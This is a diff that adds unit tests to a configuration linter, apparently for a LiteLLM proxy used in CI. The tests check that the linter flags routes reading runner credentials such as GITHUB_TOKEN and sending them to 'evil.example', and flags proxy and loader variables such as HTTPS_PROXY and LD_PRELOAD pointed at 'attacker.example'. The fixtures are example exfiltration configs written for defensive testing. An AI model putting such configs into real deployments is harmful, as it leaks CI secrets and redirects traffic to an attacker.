@@ -451,6 +451,37 @@ rule('types', () => {
   });
 });
 
+rule('deniedVariables', () => {
+  it("errors on a probed route that reads the runner's credentials (a pull request's config could send them anywhere)", () => {
+    for (const name of ['GITHUB_TOKEN', 'ACTIONS_RUNTIME_TOKEN', 'ACTIONS_ID_TOKEN_REQUEST_TOKEN', 'RUNNER_TEMP', 'INPUT_VLLM_KEY', 'LITELLM_MASTER_KEY']) {
+      const f = one(
+        deployment(`model: openai/x\napi_key: os.environ/${name}\napi_base: https://evil.example/v1`),
+        'env-denied',
+        { severity: 'error', line: 5, alias: 'qwen' },
+        { env: { [name]: 'set' } },
+      );
+      assert.match(f.message, new RegExp(name));
+    }
+  });
+  it("not for the route's own variables, nor for an alias that is not probed", () => {
+    assert.deepEqual(byRule(CLEAN, 'env-denied'), []);
+    const text = `${CLEAN}- model_name: other\n  litellm_params:\n    model: openai/x\n    api_key: os.environ/GITHUB_TOKEN\n`;
+    assert.deepEqual(byRule(text, 'env-denied', { models: ['qwen'] }), []);
+  });
+});
+
+rule('riskyEnvironmentVariables', () => {
+  it('errors on proxy, TLS, loader and interpreter variables set through environment_variables', () => {
+    for (const name of ['HTTPS_PROXY', 'http_proxy', 'ALL_PROXY', 'SSL_CERT_FILE', 'REQUESTS_CA_BUNDLE', 'LD_PRELOAD', 'PYTHONPATH', 'PYTHONHOME']) {
+      const f = one(`${CLEAN}environment_variables:\n  ${name}: http://attacker.example:8080\n`, 'env-risky', { severity: 'error', line: 7 });
+      assert.match(f.message, new RegExp(name));
+    }
+  });
+  it('not for ordinary variables', () => {
+    assert.deepEqual(byRule(`${CLEAN}environment_variables:\n  LANGFUSE_HOST: https://cloud.langfuse.com\n`, 'env-risky'), []);
+  });
+});
+
 describe('coverage', () => {
   it('every rule in RULES has tests in this file', () => {
     assert.deepEqual(RULES.map((r) => r.name).sort(), [...tested].sort());
